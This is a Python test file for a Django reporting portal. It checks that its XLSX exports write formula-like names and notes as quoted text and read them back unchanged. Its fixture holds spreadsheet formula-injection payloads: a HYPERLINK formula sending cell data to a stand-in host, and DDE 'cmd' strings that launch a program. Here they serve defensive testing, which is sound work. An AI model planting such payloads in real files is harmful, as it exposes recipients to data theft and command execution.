"""Every XLSX the portal writes holds text as text: a name or a note that starts the way a
formula does (`=`, `+`, `-`, `@`, tab, carriage return) is written after a single quote in a
text cell, so a spreadsheet program shows it and never runs it; numbers stay numbers. The
unit's own sheet is read back without that quote, so a note such as "=5 xã" comes back as it
was and a row left as downloaded is still not read."""

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from campaigns.models import Profile
from reports.excel import workbook_bytes
from reports.models import MeasureValue
from reports.services import report_get_or_create, report_save_values

# (what a unit typed, the text cell the portal writes). A lone CR is a line break once cleaned.
PREFIXES = {
    "=": ('=HYPERLINK("http://x.example/?q="&A1,"5 xã")', '\'=HYPERLINK("http://x.example/?q="&A1,"5 xã")'),
    "+": ("+5 xã", "'+5 xã"),
    "-": ("-5+cmd|' /C calc'!A0", "'-5+cmd|' /C calc'!A0"),
    "@": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "tab": ("\t=1+1", "'\t=1+1"),
    "cr": ("\r=1+1", "'\n=1+1"),
}


def cells_of(content, sheet):
    """Every cell of a sheet of the saved file: {value: cell}."""
    workbook = load_workbook(io.BytesIO(content))
    return {cell.value: cell for row in workbook[sheet].iter_rows() for cell in row if cell.value is not None}


def assert_text_cell(cells, written):
    assert written in cells, f"{written!r} not in the sheet"
    assert cells[written].data_type == "s"


# --- the dashboard download ---------------------------------------------------------------


@pytest.mark.parametrize("prefix", PREFIXES)
def test_the_dashboard_download_writes_contacts_as_text(client_for, reviewer, officer_a, campaign, prefix):
    typed, written = PREFIXES[prefix]
    officer_a.first_name, officer_a.last_name = "", typed
    officer_a.save()
    Profile.objects.filter(user=officer_a).update(phone="+84 912 345 678")
    response = client_for(reviewer).get(reverse("reports:dashboard_xlsx", args=[campaign.code]))
    assert response.status_code == 200
    missing = cells_of(response.content, "Chưa báo cáo")
    assert_text_cell(missing, written)
    assert_text_cell(missing, "'+84 912 345 678")
    assert typed not in missing
    counts = load_workbook(io.BytesIO(response.content))["Tình hình gửi báo cáo"]
    total = next(row[1] for row in counts.iter_rows(min_row=2) if row[0].value == "Số đơn vị")
    assert total.data_type == "n" and isinstance(total.value, int) and total.value > 0


# --- export_results -----------------------------------------------------------------------


def test_export_results_writes_notes_as_text_and_values_as_numbers(campaign, unit_a, officer_a, tmp_path):
    report = report_get_or_create(campaign=campaign, unit=unit_a, by=officer_a)
    codes = ["records_total", "households_total", "temporary_houses_removed", "exhibitions_held"]
    codes += ["contests_held", "propaganda_events"]
    report_save_values(
        report=report, by=officer_a, values={code: Decimal(index + 1) for index, code in enumerate(codes)}
    )
    for code, (typed, _written) in zip(codes, PREFIXES.values(), strict=True):
        MeasureValue.objects.filter(report=report, measure__code=code).update(note=typed)
    path = tmp_path / "export.xlsx"
    call_command("export_results", campaign.code, "--output", str(path), stdout=io.StringIO())

    sheet = load_workbook(path)["Số liệu"]
    rows = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    for index, (code, (_typed, written)) in enumerate(zip(codes, PREFIXES.values(), strict=True)):
        note, value = rows[code][7], rows[code][5]
        assert (note.value, note.data_type) == (written, "s"), code
        assert (value.value, value.data_type) == (index + 1, "n"), code


# --- the unit's workbook ------------------------------------------------------------------


@pytest.fixture
def report(campaign, unit_a, officer_a):
    report = report_get_or_create(campaign=campaign, unit=unit_a, by=officer_a)
    report_save_values(report=report, by=officer_a, values={"records_total": Decimal(100)})
    return report


@pytest.fixture
def officer(client_for, officer_a):
    return client_for(officer_a)


def download(client, report):
    response = client.get(reverse("reports:report_xlsx", args=[report.pk]))
    assert response.status_code == 200
    return response.content


def upload(client, report, content):
    return client.post(
        reverse("reports:report_xlsx_upload", args=[report.pk]),
        {"file": SimpleUploadedFile("so-lieu.xlsx", content), "next": reverse("reports:my_unit")},
    )


def confirm(client, report):
    token = client.session[f"reports:xlsx-upload:{report.pk}"]["token"]
    return client.post(reverse("reports:report_xlsx_confirm", args=[report.pk]), {"token": token})


def row_of(sheet, code):
    return next(row for row in sheet.iter_rows(min_row=2) if row[0].value == code)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_the_unit_workbook_writes_notes_as_text_in_both_columns(officer, report, prefix):
    typed, written = PREFIXES[prefix]
    MeasureValue.objects.filter(report=report, measure__code="records_total").update(note=typed)
    sheet = load_workbook(io.BytesIO(download(officer, report)))["Số liệu"]
    row = row_of(sheet, "records_total")
    note, original_note, value, original_value = row[4], row[6], row[3], row[5]
    assert (note.value, note.data_type) == (written, "s")
    assert (original_note.value, original_note.data_type) == (written, "s")
    assert (value.value, value.data_type) == (100, "n")
    assert (original_value.value, original_value.data_type) == (100, "n")


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_row_left_as_downloaded_is_still_not_read_back(officer, report, prefix):
    typed, _written = PREFIXES[prefix]
    MeasureValue.objects.filter(report=report, measure__code="records_total").update(note=typed)
    response = upload(officer, report, download(officer, report))
    assert response.status_code == 400
    assert "không có thay đổi nào" in response.content.decode()


@pytest.mark.parametrize("note", ["=5 xã", "+5 xã", "-5 xã", "@5 xã"])
def test_a_note_that_looks_like_a_formula_comes_back_unchanged(officer, officer_a, report, note):
    report_save_values(
        report=report, by=officer_a, values={"records_total": Decimal(100)}, notes={"records_total": note}
    )
    workbook = load_workbook(io.BytesIO(download(officer, report)))
    sheet = workbook["Số liệu"]
    row_of(sheet, "records_total")[3].value = 120  # a new figure, the note left as it was
    assert upload(officer, report, workbook_bytes(workbook)).status_code == 302
    assert confirm(officer, report).status_code == 302
    value = report.values.get(measure__code="records_total")
    assert (value.value, value.note) == (Decimal(120), note)


def test_a_note_typed_as_text_in_excel_is_saved_as_typed(officer, report):
    """Excel stores a cell typed as '=7 xã as the text "=7 xã", without the quote."""
    workbook = load_workbook(io.BytesIO(download(officer, report)))
    cell = row_of(workbook["Số liệu"], "records_total")[4]
    cell.value = "=7 xã"
    cell.data_type = "s"
    assert upload(officer, report, workbook_bytes(workbook)).status_code == 302
    assert confirm(officer, report).status_code == 302
    assert report.values.get(measure__code="records_total").note == "=7 xã"
